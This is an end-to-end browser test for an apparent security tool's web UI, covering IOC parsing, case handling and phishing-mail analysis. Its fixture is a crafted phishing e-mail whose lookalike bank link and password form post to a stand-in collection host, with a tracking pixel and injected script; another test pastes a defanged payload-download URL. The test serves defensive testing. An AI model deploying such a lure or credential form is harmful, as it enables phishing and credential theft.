// The web UI end to end: Debian's Chromium (playwright-core) against a real `vigil demo` — the
// samples run through the pipeline, then `vigil serve` on 127.0.0.1, port 0. Screenshots go to
// test-artifacts/ui/.
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PACKAGE_ROOT } from '../../src/config.js';
import { chromiumFor, launchChromium } from '../helpers/browser.js';

const CHROMIUM = chromiumFor('test/e2e/ui.test.ts');
const ARTIFACTS = join(PACKAGE_ROOT, 'test-artifacts', 'ui');

// An e-mail written for this test: a bank lookalike with failed authentication and a credential form.
const EML = [
  'Return-Path: <alerts@secure-northbank-login.com>',
  'Received: from mx.corp.example (mx.corp.example [10.0.0.25]) by mail.corp.example with ESMTPS id Q1; Thu, 19 Nov 2026 08:01:10 +0000',
  'Authentication-Results: mx.corp.example; dkim=none; spf=softfail smtp.mailfrom=alerts@secure-northbank-login.com; dmarc=fail header.from=secure-northbank-login.com',
  'Received: from unknown (unknown [198.51.100.23]) by mx.corp.example with ESMTP id Q0; Thu, 19 Nov 2026 08:01:09 +0000',
  'From: "Northbank Security" <alerts@secure-northbank-login.com>',
  'To: alice@corp.example',
  'Subject: Urgent: verify your account or it will be suspended',
  'Date: Thu, 19 Nov 2026 08:01:05 +0000',
  'Message-ID: <e2e-ui-1@secure-northbank-login.com>',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><body><p>Your account will be suspended within 24 hours. Confirm your password now.</p>',
  '<a href="http://secure-northbank-login.com/verify?id=991">https://www.northbank.com/login</a>',
  '<form action="http://secure-northbank-login.com/collect"><input type="password" name="p"></form>',
  '<img src="http://tracker.secure-northbank-login.com/open.gif"><script>document.title="pwned"</script></body></html>',
  '',
].join('\r\n');

describe.skipIf(!CHROMIUM)('the web UI in a browser', () => {
  let dir: string;
  let vigil: ChildProcess;
  let browser: Browser;
  let page: Page;
  let base = '';
  let key = '';
  let output = '';
  const cspViolations: string[] = [];
  const external: string[] = [];

  const shot = (name: string) => page.screenshot({ path: join(ARTIFACTS, `${name}.png`), fullPage: true });

  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    dir = mkdtempSync(join(tmpdir(), 'vigil-ui-e2e-'));
    // Build the UI here rather than in the server's start, so a build problem shows as such.
    const build = (await import(pathToFileURL(join(PACKAGE_ROOT, 'scripts', 'build-web.mjs')).href)) as { ensureWebBuilt(o: { log: (l: string) => void }): Promise<unknown> };
    await build.ensureWebBuilt({ log: () => {} });

    vigil = spawn(process.execPath, [join(PACKAGE_ROOT, 'bin/vigil.js'), 'demo', '--out', join(dir, 'out')], {
      cwd: dir,
      env: { ...process.env, VIGIL_PORT: '0', VIGIL_HOST: '127.0.0.1', VIGIL_DATA_DIR: join(dir, 'data'), VIGIL_DATABASE_URL: '', VIGIL_LOG_LEVEL: 'error' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`vigil demo did not start in time:\n${output}`)), 170_000);
      const onData = (b: Buffer) => {
        output += b.toString();
        const k = /API key \(admin, for this demo\): (vgl_[A-Za-z0-9_-]+)/.exec(output);
        const u = /Vigil web UI on (http:\/\/127\.0\.0\.1:\d+)\//.exec(output);
        if (k && u) {
          key = k[1]!;
          base = u[1]!;
          clearTimeout(timer);
          resolve();
        }
      };
      vigil.stdout!.on('data', onData);
      vigil.stderr!.on('data', (b: Buffer) => (output += b.toString()));
      vigil.on('exit', (code) => reject(new Error(`vigil demo exited with ${code}:\n${output}`)));
    });

    browser = await launchChromium(CHROMIUM!);
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, colorScheme: 'light', acceptDownloads: true });
    page = await context.newPage();
    page.on('console', (m) => {
      if (/Content Security Policy/i.test(m.text())) cspViolations.push(m.text());
    });
    page.on('request', (r) => {
      if (!r.url().startsWith(base) && !r.url().startsWith('blob:') && !r.url().startsWith('data:')) external.push(r.url());
    });
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    if (vigil && vigil.exitCode === null) {
      vigil.kill('SIGTERM');
      await new Promise((r) => vigil.once('exit', r));
    }
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('shows the sign-in screen first, refuses a wrong key, and signs in with the printed key', async () => {
    await page.goto(`${base}/`);
    await page.getByLabel('API key').fill('vgl_wrong-key-for-the-test-000');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect.poll(() => page.locator('[role=alert]').textContent()).toMatch(/not valid/);
    await page.getByLabel('API key').fill(key);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Dashboard' }).waitFor();
    // The key was exchanged for an HttpOnly cookie: a script cannot see either.
    // (Expressions as strings: this file is compiled without the DOM library.)
    expect(await page.evaluate('document.cookie')).toBe('');
    expect(await page.evaluate('JSON.stringify(localStorage)')).not.toContain('vgl_');
  });

  it('shows the dashboard: open cases by severity, the alerts chart, top observables and rules, providers, playbook runs', async () => {
    await page.locator('.tiles .tile-critical .tile-n').waitFor();
    expect(Number(await page.locator('.tile-critical .tile-n').textContent())).toBeGreaterThan(0);
    expect(await page.locator('figure.chart svg rect.bar').count()).toBeGreaterThan(3);
    await expect.poll(() => page.locator('#top-rules tbody tr').count()).toBeGreaterThan(3);
    expect(await page.locator('#top-obs').textContent()).toContain('malicious');
    expect(await page.locator('#providers').textContent()).toContain('local-feeds');
    expect(await page.locator('#runs tbody tr').count()).toBeGreaterThan(0);
    await shot('dashboard');
    await page.keyboard.press('t');
    await expect.poll(() => page.evaluate('document.documentElement.dataset.theme')).toBe('dark');
    await shot('dashboard-dark');
    await page.keyboard.press('t');
  });

  it('IOC box: pasted defanged text → every indicator with its verdict, score and evidence; CSV export', async () => {
    await page.keyboard.press('g');
    await page.keyboard.press('i');
    await page.getByRole('heading', { name: 'IOC box' }).waitFor();
    await page.locator('#ioc-text').fill('Beacon to 46[.]246[.]4[.]19 after hxxp://pkg-mirror-update[.]xyz/bins/x86_64.sh; jump host 10.20.30.40; see CVE-2024-3400');
    await page.locator('#ioc-text').press('Control+Enter');
    const row = page.locator('.ioc-table tbody tr', { hasText: '46.246.4.19' });
    await row.waitFor();
    expect(await row.locator('.verdict').textContent()).toMatch(/^malicious\d+$/);
    expect(await row.textContent()).toContain('Feodo');
    expect(await row.textContent()).toContain('written as 46[.]246[.]4[.]19');
    // the URL is listed (malicious); its host inherits from it, discounted (suspicious), saying so
    const byValue = (v: string) => page.locator('.ioc-table tbody tr').filter({ has: page.locator('td.mono a', { hasText: new RegExp(`^${v.replace(/[.?/]/g, '\\$&')}$`) }) });
    expect(await byValue('http://pkg-mirror-update.xyz/bins/x86_64.sh').locator('.verdict').textContent()).toMatch(/^malicious/);
    expect(await byValue('pkg-mirror-update.xyz').locator('.verdict').textContent()).toMatch(/^suspicious/);
    expect(await page.locator('.ioc-table tbody tr', { hasText: '10.20.30.40' }).textContent()).toMatch(/never sent to intel providers/);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
    const csvPath = join(dir, 'iocs.csv');
    await download.saveAs(csvPath);
    const { readFileSync } = await import('node:fs');
    const csv = readFileSync(csvPath, 'utf8');
    expect(csv.split('\r\n')[0]).toBe('type,value,verdict,score,defanged,occurrences,providers,evidence');
    expect(csv).toMatch(/ipv4,46\.246\.4\.19,malicious,\d+,true,1,local-feeds:malicious/);
    await shot('ioc-box');
  });

  it('opens a case and completes a task with a log; the timeline names who did it', async () => {
    await page.goto(`${base}/cases?status=open`);
    const withTasks = page.locator('.cases-table tbody tr').filter({ has: page.locator('td:nth-child(6):not(:empty)') }).first();
    await withTasks.waitFor();
    await withTasks.locator('td.title-cell a').click();
    await page.locator('#tasks').waitFor();
    const task = page.locator('li.task-waiting').first();
    const title = (await task.locator('.task-title').textContent())!;
    await task.getByRole('button', { name: 'Logs' }).click();
    await task.getByLabel(`Log for "${title}"`).fill('Checked the host: no persistence found.');
    await task.getByRole('button', { name: 'Add log' }).click();
    await page.locator('.task', { hasText: title }).getByText('Checked the host: no persistence found.').waitFor();
    await page.locator('.task', { hasText: title }).locator('input[type=checkbox]').check();
    await page.locator('li.task-completed', { hasText: title }).waitFor();
    await expect.poll(() => page.locator('#timeline').textContent()).toContain(`Task "${title}" completed`);
    expect(await page.locator('#timeline').textContent()).toContain('— demo');
    await shot('case-task-done');
  });

  it('approves a playbook step waiting on a case', async () => {
    await page.goto(`${base}/cases?status=open`);
    const waiting = page.locator('.cases-table tbody tr', { hasText: 'waiting' }).first();
    await waiting.waitFor();
    await waiting.locator('td.title-cell a').first().click();
    const approval = page.locator('li.approval').first();
    await approval.waitFor();
    const pending = await page.locator('li.approval').count();
    expect(await approval.textContent()).toContain('Waiting for approval');
    await approval.getByLabel('Reason for the decision').fill('Approved in the e2e test');
    await approval.getByRole('button', { name: 'Approve' }).click();
    await expect.poll(() => page.locator('li.approval').count()).toBe(pending - 1);
    await expect.poll(() => page.locator('#playbooks').textContent()).toMatch(/approved by \S*demo/);
    await shot('case-approved');
  });

  it('Upload EML: shows the verdict, findings, auth table and links, and never renders the mail', async () => {
    const eml = join(dir, 'northbank.eml');
    writeFileSync(eml, EML);
    await page.goto(`${base}/phish`);
    await page.getByLabel('E-mail file (.eml)').setInputFiles(eml);
    await page.getByRole('button', { name: 'Analyse' }).click();
    const banner = page.locator('.verdict-banner');
    await banner.waitFor();
    expect(await banner.textContent()).toMatch(/phishing|malicious|suspicious/i);
    expect(await page.locator('#findings tbody tr').count()).toBeGreaterThan(1);
    expect(await page.locator('#auth').textContent()).toContain('softfail');
    expect(await page.locator('#links').textContent()).toContain('hxxp://secure-northbank-login[.]com/verify');
    // Nothing from the message was fetched or executed.
    expect(await page.title()).toBe('Vigil');
    expect(external.filter((u) => u.includes('northbank'))).toEqual([]);
    await shot('phish');
    const report = await page.context().request.get(`${base}${await banner.getByRole('link', { name: 'HTML report' }).getAttribute('href')}`);
    expect(report.headers()['content-security-policy']).toContain('sandbox');
  });

  it('IOC lookup: finds which feeds list a value and since when, and imports a feed file', async () => {
    await page.goto(`${base}/lookup`);
    await page.getByLabel('Indicator', { exact: true }).fill('46.246.4.0/24');
    await page.getByRole('button', { name: 'Search' }).click();
    const row = page.locator('#matches tbody tr', { hasText: '46.246.4.19' });
    await row.waitFor();
    expect(await row.textContent()).toContain('listed, inside your range');
    expect(await row.textContent()).toContain('Feodo');
    expect(await row.textContent()).toContain('2025-09-14');
    const feedFile = join(dir, 'e2e-blocklist.txt');
    writeFileSync(feedFile, '# e2e\n203.0.113.200\n');
    await page.getByLabel('Feed file', { exact: true }).setInputFiles(feedFile);
    await page.getByLabel('Feed name').fill('E2E blocklist');
    await page.getByRole('button', { name: 'Import' }).click();
    await expect.poll(() => page.locator('.import [role=status]').textContent()).toMatch(/E2E blocklist: imported — 1 indicators/);
    await page.getByLabel('Indicator', { exact: true }).fill('203.0.113.200');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.locator('#matches tbody tr', { hasText: 'E2E blocklist' }).waitFor();
    await shot('lookup');
  });

  it('loaded nothing from other origins and broke no CSP rule; signing out returns to sign-in', async () => {
    expect(external).toEqual([]);
    expect(cspViolations).toEqual([]);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in to Vigil' }).waitFor();
    const r = await page.context().request.get(`${base}/api/stats`);
    expect(r.status()).toBe(401);
  });
});
